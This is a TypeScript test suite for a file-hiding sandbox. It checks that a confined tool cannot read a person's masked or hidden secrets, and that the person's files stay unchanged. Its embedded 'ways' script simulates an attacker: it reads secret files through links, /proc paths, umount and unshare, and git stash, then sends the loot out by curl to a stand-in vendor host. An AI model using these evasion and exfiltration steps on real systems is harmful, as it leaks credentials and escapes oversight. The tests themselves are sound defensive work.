// Files the policy hides and masks: nothing inside has what is in them, by whatever way it tries, and the person's files are as
// they were. What the tool got is what it left in the checkout, in its copy or at the vendor's; what it says counts for nothing.

import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import {
  chmodSync,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { dirname, join } from "node:path";
import { test } from "node:test";
import { git, openStage, readLog, type Stage, vendorHost } from "./fault-stage.ts";

const canaries = {
  hidden: "canary-hidden-1f0c",
  deep: "canary-deep-77ab",
  masked: "canary-masked-c0de",
  unknown: "canary-unknown-4e4e",
} as const;
type Canary = keyof typeof canaries;

const rules = { hide: ["secrets/**", "*.pem"], mask: [".env", "config/*.json", "notes.vault"] };

function lay(stage: Stage): void {
  const put = (path: string, text: string): void => {
    mkdirSync(dirname(join(stage.work, path)), { recursive: true });
    writeFileSync(join(stage.work, path), text);
  };
  put(".gitignore", ".env\nsecrets/\n*.pem\nignored/\nconfig/\nnotes.vault\nloot*\n");
  put("secrets/key", `${canaries.hidden}\n`);
  put("secrets/below/deep", `${canaries.deep}\n`);
  put("ignored/one.pem", `${canaries.deep}\n`);
  put(".env", `# ${canaries.masked}\nTOKEN=${canaries.masked}\nDEBUG=true\n`);
  put("packages/a/.env", `export TOKEN="${canaries.masked}"\n`);
  put("config/prod.json", `{"password":"${canaries.masked}","port":5432}`);
  put("notes.vault", `${canaries.unknown} is the word\n`);
  linkSync(join(stage.work, "secrets/key"), join(stage.work, "src/second"));
  symlinkSync("secrets/key", join(stage.work, "by-link"));
  symlinkSync("packages", join(stage.work, "ways"));
  chmodSync(join(stage.work, "secrets/key"), 0o644);
}

function policyFor(stage: Stage, more: object = {}): string {
  const path = join(stage.base, "hiding.yaml");
  const given = JSON.parse(readFileSync(stage.policy, "utf8")) as object;
  writeFileSync(path, JSON.stringify({ ...given, files: rules, ...more }));
  return path;
}

/** Every file of the person's with its content, kind and permissions. */
function digest(work: string): string {
  const hash = createHash("sha256");
  const names = readdirSync(work, { recursive: true, encoding: "utf8" })
    .filter((name) => !/^(?:loot|\.git\/)/.test(name))
    .sort();
  for (const name of names) {
    const stats = lstatSync(join(work, name));
    const content = stats.isFile() ? readFileSync(join(work, name)) : "";
    if (!stats.isDirectory()) hash.update(`${name}\0${stats.mode}\0${stats.ino}\0`).update(content);
  }
  return hash.digest("hex");
}

/** Whatever a tool could think of; what it finds it writes down and sends away. */
const ways = `
  look() { "$@" >>loot 2>/dev/null; }
  for f in secrets/key secrets/below/deep ./secrets/../secrets/key SECRETS/key by-link src/second ignored/one.pem notes.vault \\
    .env packages/a/.env ways/a/.env config/prod.json; do
    look cat "$f"; look dd if="$f"; look cp "$f" loot-copy; look cat loot-copy
    ln "$f" loot-hard 2>/dev/null; look cat loot-hard; rm -f loot-hard loot-copy
  done
  look grep -r canary .
  chmod -R u+rwX secrets 2>/dev/null; look cat secrets/key
  look tar cf - .
  look find . -type f -exec cat {} +
  mv packages moved 2>/dev/null; look cat moved/a/.env; mv moved packages 2>/dev/null
  mv config conf2 2>/dev/null; look cat conf2/prod.json; mv conf2 config 2>/dev/null
  mv secrets elsewhere 2>/dev/null; look cat elsewhere/key
  rm -f .env 2>/dev/null; look cat .env
  look cat /proc/self/cwd/secrets/key /proc/1/root$PWD/secrets/key
  umount .env 2>/dev/null; umount secrets 2>/dev/null; look cat .env secrets/key
  look unshare -Urm sh -c 'umount .env; cat .env'
  git stash -q 2>/dev/null; look git show stash@{0}:.env; look git diff; git stash pop -q 2>/dev/null
  curl -s -o /dev/null "https://${vendorHost}/$(tr -dc 'a-z0-9-' <loot | head -c 4000)" || true
  true
`;

const found = (text: string): readonly Canary[] =>
  (Object.keys(canaries) as Canary[]).filter((name) => text.includes(canaries[name]));

function treeOf(stage: Stage): string {
  const [name = ""] = readdirSync(join(stage.state, "staged")).filter((each) => each.startsWith("s-"));
  return join(stage.state, "staged", name, "tree");
}

/** Every byte below, but what is not the tool's to reach. */
const everything = (directory: string): string =>
  execFileSync("sh", ["-c", 'find "$0" -type f -exec cat {} +', directory], { encoding: "latin1", maxBuffer: 2 ** 28 });

for (const edits of ["live", "staged"] as const)
  test(`edits ${edits}: no way inside leads to what is hidden or masked (needs namespaces)`, async () => {
    await using stage = await openStage();
    lay(stage);
    const before = digest(stage.work);
    const run = ["run", "--edits", edits, "--policy", policyFor(stage), "--", "bash", "-c", ways];
    // the tool without a boundary has all of it: it would be noticed
    execFileSync("bash", ["-c", "grep -r --exclude=loot canary . > loot"], { cwd: stage.work });
    assert.deepEqual(found(readFileSync(join(stage.work, "loot"), "latin1")), Object.keys(canaries));
    writeFileSync(join(stage.work, "loot"), "");
    const { code, errors } = await stage.ask(run);
    assert.equal(code, 0, errors);
    const loot = join(edits === "live" ? stage.work : treeOf(stage), "loot");
    const got = readFileSync(loot, "latin1");
    assert.deepEqual(found(got), [], "nothing of it was read");
    assert.match(got, /postern-masked-1/, "it read what is shown instead");
    assert.match(got, /DEBUG=true/);
    assert.deepEqual(found(stage.seen.join("\n")), []);
    assert.ok(
      stage.seen.some((target) => target.includes("postern-masked")),
      stage.seen.join(" "),
    );
    if (edits === "staged") assert.deepEqual(found(everything(treeOf(stage))), [], "nothing of it is in the copy");
    assert.equal(digest(stage.work), before, "the person's files are as they were");
    assert.match(errors, /hidden inside: \d+, masked: 3/);
    assert.match(errors, /1 file is hidden and not masked/);
    const [start] = await readLog(stage, ["--kind", "session.start"]);
    assert.equal(start?.counts?.["files-masked"], 3);
    assert.ok((start?.counts?.["files-hidden"] ?? 0) >= 4, JSON.stringify(start?.counts));
    const entries = await readLog(stage, ["--kind", "hidden-file"]);
    if (edits === "live")
      assert.ok(
        entries.some(({ sealed }) => sealed?.["path"] === ".env"),
        `an attempt at it is on the record: ${JSON.stringify(entries.map(({ sealed }) => sealed?.["path"]))}`,
      );
  });

test("staged: git inside has nothing to tell of what is hidden, and nothing made in its place lands", async () => {
  await using stage = await openStage();
  lay(stage);
  writeFileSync(join(stage.work, ".gitignore"), "loot*\n");
  git(stage.work, stage.home, ["add", "-A"]);
  git(stage.work, stage.home, ["add", "-f", ".env", "secrets/key", "config/prod.json"]);
  git(stage.work, stage.home, ["commit", "-q", "-m", "with secrets"]);
  const before = digest(stage.work);
  const script = `git status --porcelain >loot-status
    mkdir -p secrets; echo new >secrets/new; echo mine >src/second; echo TOKEN=mine >.env; echo fine >fine.txt
    git config user.name t; git config user.email t@example.org
    git add fine.txt; git commit -q -m fine; git switch -q -c bad
    git update-index --no-skip-worktree .env; git add -f .env; git commit -q -m placeholder`;
  const { code, errors } = await stage.ask([
    "run",
    "--edits",
    "staged",
    "--policy",
    policyFor(stage),
    "--",
    "sh",
    "-ec",
    script,
  ]);
  assert.equal(code, 0, errors);
  assert.match(errors, /git has \d+ files that the policy hides or masks: its history is readable inside/);
  assert.equal(readFileSync(join(treeOf(stage), "loot-status"), "utf8"), "", "git inside tells no change of them");
  const shown = await stage.ask(["review"]);
  assert.match(shown.output, /\.env.*masked by the policy \(files\.mask: \.env\)/s);
  assert.match(shown.output, /secrets\/new.*hidden by the policy \(files\.hide: secrets\/\*\*\)/s);
  for (const path of [".env", "secrets/new", "refs/heads/bad"]) {
    const refused = await stage.ask(["review", "--accept", path]);
    assert.equal(refused.code, 1, `${path}: ${refused.output}`);
    assert.match(refused.errors, /by the policy/);
  }
  assert.equal(digest(stage.work), before);
  const landed = await stage.ask(["review", "--accept", "fine.txt", "refs/heads/main"]);
  assert.equal(landed.code, 0, landed.errors);
  assert.equal(readFileSync(join(stage.work, "fine.txt"), "utf8"), "fine\n");
  assert.equal(existsSync(join(stage.work, "secrets/new")), false);
  assert.match(readFileSync(join(stage.work, ".env"), "utf8"), /canary-masked/, "no placeholder over a real value");
  assert.match(git(stage.work, stage.home, ["show", "main:.env"]), /canary-masked/);
  assert.equal(git(stage.work, stage.home, ["status", "--porcelain"]), "", "and nothing is told as deleted outside");
  const entries = await readLog(stage, ["--kind", "hidden-file"]);
  assert.deepEqual(entries.map(({ sealed }) => String(sealed?.["path"])).toSorted(), [
    ".env",
    "secrets/new",
    "src/second",
  ]);
});

test("staged: nor does a commit land that changes it in a submodule, or puts a link in place of what is around it", async () => {
  await using stage = await openStage();
  lay(stage);
  mkdirSync(join(stage.work, "keys"));
  writeFileSync(join(stage.work, "keys/a.pem"), canaries.hidden);
  const sub = stage.checkout("sub");
  mkdirSync(join(sub, "config"));
  for (const path of [".env", "x.pem", "config/a.json"]) writeFileSync(join(sub, path), `TOKEN=${canaries.masked}\n`);
  git(sub, stage.home, ["add", "-A"]);
  git(sub, stage.home, ["commit", "-q", "-m", "sub"]);
  git(stage.work, stage.home, ["-c", "protocol.file.allow=always", "submodule", "add", "-q", sub, "lib"]);
  git(stage.work, stage.home, ["commit", "-q", "-m", "with it"]);
  const policy = policyFor(stage, { files: { hide: [...rules.hide, "lib/config/**"], mask: rules.mask } });
  const script = `git config --global user.name t; git config --global user.email t@example.org
    git -C lib status --porcelain >loot-status; git switch -q -c link; rm -r keys; ln -s src keys; git add keys; git commit -q -m link
    cd lib; echo more >>run.sh; git commit -qam fine; git switch -q -c bad
    git update-index --no-skip-worktree .env x.pem config/a.json; git commit -qam placeholders
    git switch -q -c worse main; git rm -q --cached --sparse config/a.json; git commit -qm gone`;
  const { code, errors } = await stage.ask(["run", "--edits", "staged", "--policy", policy, "--", "sh", "-ec", script]);
  assert.equal(code, 0, errors);
  assert.equal(readFileSync(join(treeOf(stage), "loot-status"), "utf8"), "", "git inside tells no change of them");
  const at = ".git/modules/lib:refs/heads";
  const shown = await stage.ask(["review"]);
  assert.equal(shown.code, 0, shown.errors);
  for (const path of ["refs/heads/link", `${at}/bad`, `${at}/worse`]) {
    const refused = await stage.ask(["review", "--accept", path]);
    assert.equal(refused.code, 1, `${path}: ${refused.output}`);
    assert.match(refused.errors, /by the policy|hidden or masked files/);
  }
  const landed = await stage.ask(["review", "--accept", `${at}/main`, "lib/run.sh"]);
  assert.equal(landed.code, 0, landed.errors);
  assert.match(git(join(stage.work, "lib"), stage.home, ["show", "main:.env"]), /canary-masked/);
  assert.equal(git(join(stage.work, "lib"), stage.home, ["status", "--porcelain"]), "");
});

test("live: what comes later into a hidden directory is hidden too; a repository's own policy may hide", async () => {
  await using stage = await openStage();
  lay(stage);
  writeFileSync(join(stage.work, "postern.yaml"), JSON.stringify({ version: 1, files: { hide: ["private/**"] } }));
  mkdirSync(join(stage.work, "private"));
  const script =
    "echo >begun; until test -e went; do sleep 0.05; done; cat private/* secrets/* >loot 2>/dev/null; true";
  const running = stage.start(["run", "--policy", policyFor(stage), "--", "sh", "-c", script]);
  await until(() => existsSync(join(stage.work, "begun")));
  writeFileSync(join(stage.work, "private/later"), canaries.deep);
  writeFileSync(join(stage.work, "secrets/later"), canaries.deep);
  writeFileSync(join(stage.work, "went"), "");
  const { code, errors } = await running.told;
  assert.equal(code, 0, errors);
  assert.deepEqual(found(readFileSync(join(stage.work, "loot"), "utf8")), []);
});

test("live: what the person makes or replaces by a hidden name is covered, and told", async () => {
  await using stage = await openStage();
  lay(stage);
  const script = "echo >begun; until test -e went; do sleep 0.05; done; cat .env src/late.pem new/late.pem >loot; true";
  const running = stage.start(["run", "--policy", policyFor(stage), "--", "sh", "-c", script]);
  await until(() => existsSync(join(stage.work, "begun")));
  const put = (path: string): void => {
    writeFileSync(join(stage.base, "fresh"), `TOKEN=${canaries.deep}\n`);
    renameSync(join(stage.base, "fresh"), join(stage.work, path));
  };
  mkdirSync(join(stage.work, "new"));
  for (const path of [".env", "src/late.pem", "new/late.pem"]) put(path);
  const entered = async () => {
    const entries = await readLog(stage, ["--kind", "hidden-file"]);
    return new Set(
      entries.flatMap(({ sealed }) => (String(sealed?.["why"]).startsWith("hidden since") ? [sealed?.["path"]] : [])),
    );
  };
  await until(async () => (await entered()).size === 3);
  writeFileSync(join(stage.work, "secrets/another"), canaries.deep);
  writeFileSync(join(stage.work, "went"), "");
  const { code, errors } = await running.told;
  assert.equal(code, 0, errors);
  assert.deepEqual(found(readFileSync(join(stage.work, "loot"), "latin1")), []);
  assert.equal(
    readFileSync(join(stage.work, "src/late.pem"), "utf8"),
    `TOKEN=${canaries.deep}\n`,
    "outside it is there",
  );
  const undone = await stage.ask(["undo"]);
  assert.equal(undone.code, 0, undone.errors);
  assert.match(undone.errors, /not restored: \.env: hidden or masked inside/);
  assert.equal(existsSync(join(stage.work, "loot")), false, "what the tool made is taken back");
  for (const path of [".env", "src/late.pem", "secrets/another"])
    assert.match(readFileSync(join(stage.work, path), "utf8"), /canary-deep/, `${path} is the person's`);
  assert.equal((await stage.ask(["undo", ".env"])).code, 0);
  assert.match(readFileSync(join(stage.work, ".env"), "utf8"), /canary-masked/, "taken back where it is named");
});

test("live: what lies in a directory made anew is covered again; another name in what is readable never shows it", async () => {
  await using stage = await openStage();
  lay(stage);
  const beside = join(stage.base, "beside");
  mkdirSync(beside);
  linkSync(join(stage.work, "secrets/key"), join(beside, "copy"));
  const policy = policyFor(stage, { files: { ...rules, read: [beside] } });
  const script = `echo >begun; until test -e went; do sleep 0.05; done
    cat config/prod.json packages/a/.env secrets/key ${beside}/copy >loot; true`;
  const running = stage.start(["run", "--policy", policy, "--", "sh", "-c", script]);
  await until(() => existsSync(join(stage.work, "begun")));
  const again = ["config", "packages", "secrets"];
  // as a branch that is switched and switched back; made outside, for a cover laid on the way would come along
  for (const name of again)
    execFileSync("sh", ["-c", `cp -a ${name} ../new; rm -r ${name}; mv ../new ${name}`], { cwd: stage.work });
  const entered = async () => {
    const entries = await readLog(stage, ["--kind", "hidden-file"]);
    return new Set(
      entries.flatMap(({ sealed }) => (String(sealed?.["why"]).startsWith("hidden since") ? [sealed?.["path"]] : [])),
    );
  };
  const meant = ["config/prod.json", "packages/a/.env", "secrets"];
  await until(async () => {
    const told = await entered();
    return meant.every((path) => told.has(path));
  });
  writeFileSync(join(stage.work, "went"), "");
  const { code, errors } = await running.told;
  assert.equal(code, 0, errors);
  assert.deepEqual(found(readFileSync(join(stage.work, "loot"), "latin1")), []);
});

async function until(met: () => boolean | Promise<boolean>): Promise<void> {
  for (let turn = 0; turn < 600 && !(await met()); turn += 1) await new Promise((resolve) => setTimeout(resolve, 100));
}

test("what cannot be hidden whole is a reason not to start", async () => {
  await using stage = await openStage();
  lay(stage);
  symlinkSync("..", join(stage.work, "src/around.pem"));
  const { code, errors } = await stage.ask(["run", "--policy", policyFor(stage), "--", "touch", "canary"]);
  assert.equal(code, 125, errors);
  assert.match(errors, /not everything that files\.hide and files\.mask mean can be found: .*around\.pem is a link/);
  assert.equal(existsSync(stage.canary), false);
});
